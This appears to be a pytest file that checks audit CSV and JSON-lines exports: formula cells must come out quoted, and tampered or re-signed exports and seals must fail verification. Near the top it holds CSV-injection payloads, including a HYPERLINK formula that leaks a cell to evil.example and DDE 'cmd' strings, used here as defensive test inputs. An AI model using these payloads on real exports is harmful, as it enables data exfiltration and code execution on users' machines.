"""The audit exports as an attacker would use them: formula cells in the CSV, whatever the
column; and the offline checks of docs/audit.md run by a third party on real exports and
seals, which refuse an edited seal."""

from __future__ import annotations

import csv
import io
import json
import re
import subprocess
import sys
from datetime import UTC, datetime
from pathlib import Path

import pytest
from sqlalchemy import insert

from partnerflow.engine import audit
from partnerflow.engine.audit import seals
from partnerflow.engine.runtime import auditlog
from partnerflow.engine.store.models import AuditEvent

DOCS = Path(__file__).resolve().parents[2] / "docs" / "audit.md"
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Cliquez ici")'
HOSTILE = {"seq": -7, "type": "+cmd|' /C calc'!A0", "actor": HYPERLINK, "partnership_id": -1,
           "instance_id": -2, "task_uuid": "@SUM(1+1)*cmd|' /C calc'!A0", "element_id": "\t=1+1",
           "payload": -3, "prev_hash": "\r=2+2", "hash": "\n=3+3"}


def insert_hostile_event(pf, partnership_id: int) -> None:
    """Written straight into the database: such names are refused at creation."""
    with pf.db.begin() as conn:
        conn.execute(insert(AuditEvent.__table__).values(
            chain=audit.chain_for(partnership_id), occurred_at=datetime(2026, 3, 2, tzinfo=UTC),
            **HOSTILE))


def csv_rows(response) -> list[dict]:
    assert response.status_code == 200
    text = response.get_data(as_text=True).lstrip("\ufeff")
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_no_cell_of_any_column_of_the_audit_csv_is_a_formula(world, as_user):
    insert_hostile_event(world.pf, world.own)
    rows = csv_rows(as_user("alice").get(f"/partenariats/{world.own}/audit.csv"))
    [hostile] = [r for r in rows if r["seq"] == "'-7"]
    for column, value in hostile.items():
        assert not value.startswith(auditlog.TRIGGERS), (column, value)
    assert hostile["actor"] == "'" + HYPERLINK
    # nothing lost: removing the quote gives back what was stored
    stored = {k: json.dumps(v) if k == "payload" else str(v) for k, v in HOSTILE.items()}
    assert {k: auditlog.unquote_cell(hostile[k]) for k in HOSTILE} == stored
    for row in rows:
        for value in row.values():
            assert not value.startswith(auditlog.TRIGGERS)


def test_the_csv_export_unquoted_is_the_json_lines_export(world, as_user):
    auditor = as_user("alice")
    rows = csv_rows(auditor.get(f"/partenariats/{world.own}/audit.csv"))
    lines = [json.loads(line) for line in auditor.get(
        f"/partenariats/{world.own}/audit.jsonl").get_data(as_text=True).splitlines()]
    events = [line for line in lines if "chain_head" not in line and "export_trailer" not in line]
    assert len(rows) == len(events) > 3
    for row, event in zip(rows, events, strict=True):
        for column, value in row.items():
            expected = event[column]
            if column == "payload":
                expected = json.dumps(expected, sort_keys=True, separators=(",", ":"),
                                      ensure_ascii=False)
            assert auditlog.unquote_cell(value) == ("" if expected is None else str(expected))


@pytest.mark.parametrize("value, cell", [
    ("=1+1", "'=1+1"), ("+33 1 23", "'+33 1 23"), ("-2", "'-2"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("\n=1", "'\n=1"), ("'quoted", "''quoted"),
    ("claire.martin", "claire.martin"), (None, ""), (-5, "'-5"), (12, "12"), ("", ""),
])
def test_the_shared_cell_rule(value, cell):
    assert auditlog.safe_cell(value) == cell
    assert auditlog.unquote_cell(cell) == ("" if value is None else str(value))


# ---------------------------------------------------------------- the documented offline checks


def doc_script(marker: str) -> str:
    blocks = re.findall(r"```python\n(.*?)```", DOCS.read_text(encoding="utf-8"), re.S)
    [script] = [b for b in blocks if marker in b]
    return script


def run(script: str, *args) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-c", script, *map(str, args)], capture_output=True,
                          text=True, timeout=60)


@pytest.fixture
def exported(world, as_user, tmp_path):
    pf = world.pf
    with pf.read() as session:
        seal = seals.make_seal(session, pf.audit_keys, at=pf.clock(), site=None)
    seal_file = tmp_path / "seal.json"
    seal_file.write_text(seals.dumps(seal), encoding="utf-8")
    export = tmp_path / "audit.jsonl"
    export.write_text(as_user("alice").get(f"/partenariats/{world.own}/audit.jsonl")
                      .get_data(as_text=True), encoding="utf-8")
    return seal_file, seal["public_key"], export


def test_the_documented_seal_check_accepts_a_genuine_seal_and_export(exported):
    seal_file, public_key, export = exported
    result = run(doc_script("seal genuine"), seal_file, public_key, export)
    assert result.returncode == 0, result.stderr
    assert "seal genuine" in result.stdout
    result = run(doc_script("chain intact:"), export, public_key)
    assert result.returncode == 0, result.stderr
    assert auditlog.verify_jsonl(export.read_text(encoding="utf-8"),
                                 trusted_public_key=public_key) == []


def _resigned_by_another_key(lines: list[str]) -> list[str]:
    """The export's trailer re-signed with a key of the attacker's own."""
    import base64

    from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

    other = Ed25519PrivateKey.generate()
    trailer = json.loads(lines[-1])["export_trailer"]
    trailer.pop("signature")
    trailer["public_key"] = audit.public_key_text(other.public_key())
    trailer["signature"] = base64.b64encode(other.sign(json.dumps(
        trailer, sort_keys=True, separators=(",", ":"), ensure_ascii=False).encode())).decode()
    return [*lines[:-1], json.dumps({"export_trailer": trailer})]


def _trailer_edited(lines: list[str], **changes) -> list[str]:
    row = json.loads(lines[-1])
    row["export_trailer"].update(changes)
    return [*lines[:-1], json.dumps(row)]


CUTS = {
    "first line removed": lambda lines: lines[1:],
    "first line cut short": lambda lines: [lines[0][40:], *lines[1:]],
    "last event and head removed": lambda lines: [*lines[:-3], lines[-1]],
    "head line removed": lambda lines: [*lines[:-2], lines[-1]],
    "trailer removed": lambda lines: lines[:-1],
    "trailer cut short": lambda lines: [*lines[:-1], lines[-1][:-30]],
    "trailer count raised": lambda lines: _trailer_edited(lines, events=99),
    "trailer head changed": lambda lines: _trailer_edited(lines, head="f" * 64),
    "trailer signed by another key": _resigned_by_another_key,
    "a middle event removed": lambda lines: [*lines[:2], *lines[3:]],
}


@pytest.mark.parametrize("cut", sorted(CUTS))
def test_an_export_cut_at_either_end_or_with_its_trailer_altered_does_not_verify(exported, cut):
    seal_file, public_key, export = exported
    lines = export.read_text(encoding="utf-8").splitlines()
    assert "export_trailer" in json.loads(lines[-1]) and len(lines) > 5
    export.write_text("\n".join(CUTS[cut](lines)) + "\n", encoding="utf-8")
    text = export.read_text(encoding="utf-8")
    assert auditlog.verify_jsonl(text, trusted_public_key=public_key) != []
    result = run(doc_script("chain intact:"), export, public_key)
    assert result.returncode != 0, (cut, result.stdout)


def test_the_export_trailer_is_signed_with_the_seal_key_and_counts_the_events(exported):
    seal_file, public_key, export = exported
    lines = export.read_text(encoding="utf-8").splitlines()
    trailer = json.loads(lines[-1])["export_trailer"]
    head = json.loads(lines[-2])["chain_head"]
    assert trailer["public_key"] == public_key
    assert (trailer["events"], trailer["head"]) == (head["last_seq"], head["last_hash"])
    assert trailer["events"] == len(lines) - 2 and trailer["redacted"] is False


def test_the_documented_seal_check_refuses_an_edited_seal(exported):
    seal_file, public_key, export = exported
    seal = json.loads(seal_file.read_text(encoding="utf-8"))
    seal["chains"][-1]["events"] += 1
    seal_file.write_text(json.dumps(seal), encoding="utf-8")
    result = run(doc_script("seal genuine"), seal_file, public_key, export)
    assert result.returncode != 0 and "InvalidSignature" in result.stderr


def test_the_documented_seal_check_refuses_a_rewritten_export(exported, world):
    seal_file, public_key, export = exported
    lines = export.read_text(encoding="utf-8").splitlines()
    chain = audit.chain_for(world.own)
    sealed = next(c for c in json.loads(seal_file.read_text())["chains"] if c["chain"] == chain)
    rewritten = []
    for line in lines:
        row = json.loads(line)
        if row.get("seq") == sealed["events"]:
            row["hash"] = "f" * 64
        rewritten.append(json.dumps(row))
    export.write_text("\n".join(rewritten) + "\n", encoding="utf-8")
    result = run(doc_script("seal genuine"), seal_file, public_key, export)
    assert result.returncode != 0 and "rewritten or cut back since the seal" in result.stderr


def test_the_export_is_utf_8_text_people_read_with_its_accents(exported):
    _seal_file, public_key, export = exported
    text = export.read_text(encoding="utf-8")
    assert "é" in text and "\\u00" not in text  # "Réseau", not "R\u00e9seau"
    assert auditlog.verify_jsonl(text, trusted_public_key=public_key) == []


def test_the_check_of_an_export_reads_past_blank_lines_to_every_problem(exported):
    # a blank line is skipped, not the end of the export: an event altered after it is named
    _seal_file, public_key, export = exported
    lines = export.read_text(encoding="utf-8").splitlines()
    third = json.loads(lines[2])
    third["type"] = "forged"
    edited = [lines[0], "", lines[1], json.dumps(third), *lines[3:]]
    problems = auditlog.verify_jsonl("\n".join(edited) + "\n", trusted_public_key=public_key)
    assert f"line 4 (event #{third['seq']}): content does not match its hash" in problems
    assert any("not the ones it signed" in p for p in problems)
